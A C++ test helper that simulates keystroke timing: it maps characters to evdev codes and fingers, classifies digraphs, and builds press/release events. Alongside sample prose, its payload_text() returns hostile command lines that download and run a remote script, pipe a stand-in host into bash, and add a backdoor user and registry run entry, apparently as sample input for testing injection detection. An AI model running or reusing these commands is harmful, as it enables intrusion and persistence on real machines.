// SPDX-License-Identifier: GPL-2.0-or-later
// Keyboard: see the header.
#include "tests/base/typing/keyboard.hpp"

#include <algorithm>
#include <array>
#include <cmath>
#include <cstddef>
#include <map>

namespace base::typing::traces {
namespace {

struct Row {
  std::string_view plain;
  std::string_view shifted;
  std::uint16_t first;
  std::array<int, 13> fingers;
};

// evdev codes run along the rows of the keyboard.
constexpr std::array<Row, 4> rows{{
    {"1234567890-=", "!@#$%^&*()_+", 2, {0, 1, 2, 3, 3, 5, 5, 6, 7, 8, 8, 8, 8}},
    {"qwertyuiop[]", "QWERTYUIOP{}", 16, {0, 1, 2, 3, 3, 5, 5, 6, 7, 8, 8, 8, 8}},
    {"asdfghjkl;'`", "ASDFGHJKL:\"~", 30, {0, 1, 2, 3, 3, 5, 5, 6, 7, 8, 8, 8, 8}},
    {"\\zxcvbnm,./", "|ZXCVBNM<>?", 43, {8, 0, 1, 2, 3, 3, 5, 5, 6, 7, 8, 8, 8}},
}};

// Pairs that are rolled over neighbouring fingers of one hand.
constexpr std::array<std::string_view, 16> rolls{"er", "re", "as", "sa", "we", "ew", "io", "oi",
                                                 "in", "on", "op", "po", "ds", "df", "lk", "ui"};

}  // namespace

Key key_of(char character) {
  if (character == '\n') return {.code = code::enter, .shift = false, .finger = 8};
  for (const Row& row : rows) {
    for (const bool shift : {false, true}) {
      const auto found = (shift ? row.shifted : row.plain).find(character);
      if (found == std::string_view::npos) continue;
      return {.code = static_cast<std::uint16_t>(row.first + found),
              .shift = shift,
              .finger = row.fingers[found]};
    }
  }
  return {.code = code::space, .shift = false, .finger = 4};
}

Digraph digraph_of(char first, char second) {
  if (first == second) return Digraph::repeat;
  const std::array<char, 2> pair{first, second};
  if (std::find(rolls.begin(), rolls.end(), std::string_view(pair.data(), 2)) != rolls.end())
    return Digraph::roll;
  const int before = key_of(first).finger;
  const int after = key_of(second).finger;
  if (before == after) return Digraph::same_finger;
  if (before == 4 || after == 4 || (before < 4) != (after < 4)) return Digraph::other_hand;
  return Digraph::same_hand;
}

void Roll::stroke(std::uint16_t key, double at, double hold) {
  strokes_.push_back({.code = key, .at = at, .hold = hold});
}

std::vector<KeyEvent> Roll::events(double poll) const {
  auto strokes = strokes_;
  std::stable_sort(strokes.begin(), strokes.end(),
                   [](const Stroke& a, const Stroke& b) { return a.at < b.at; });
  // A report is seen at the next poll, and a press for one poll at least.
  const auto seen = [poll](double at) { return std::ceil(at / poll) * poll; };
  const auto point = [](double at) {
    return std::chrono::nanoseconds(static_cast<std::int64_t>(std::llround(at * 1e6)));
  };
  std::vector<KeyEvent> events;
  std::map<std::uint16_t, std::size_t> released;  // where the release of each key is
  for (const Stroke& stroke : strokes) {
    const auto down = point(seen(stroke.at));
    const auto up = std::max(point(seen(stroke.at + stroke.hold)), down + point(poll));
    const auto before = released.find(stroke.code);
    if (before != released.end()) {
      auto& let_go = events[before->second];
      let_go.at = std::min(let_go.at, down);
    }
    events.push_back({.at = down, .code = stroke.code, .value = 1});
    released[stroke.code] = events.size();
    events.push_back({.at = up, .code = stroke.code, .value = 0});
  }
  // Within one report the kernel tells of keys that went up first, mostly. A key pressed again in
  // the report that released it has its release before too, as the sort is stable.
  std::stable_sort(events.begin(), events.end(), [](const KeyEvent& a, const KeyEvent& b) {
    return a.at != b.at ? a.at < b.at : a.value < b.value;
  });
  return events;
}

std::string_view prose() {
  return "The harbour was quiet when Anna came down to the pier, and only two boats had their "
         "lamps lit. She looked for the old man who mends the nets; he was not there. \"Try the "
         "office,\" said a boy with a crate of 24 lemons, \"he went in at nine.\" It is hard to "
         "wait in the rain, so she walked on, past the quay and the five empty warehouses, and "
         "counted doors until she stood before number 16. Nobody answered the first knock. At "
         "last somebody coughed, a bolt moved, and the smell of tar and coffee came out to her. ";
}

std::string_view payload_text() {
  return "powershell -w hidden -nop -c \"iwr http://10.0.0.7/stage.ps1 -outfile "
         "$env:temp\\update.ps1; start $env:temp\\update.ps1\"\ncurl -s https://example.invalid/x "
         "| bash -i & disown; exit\ncmd /c net user helper Passw0rd /add & reg add HKLM /v run\n";
}

}  // namespace base::typing::traces
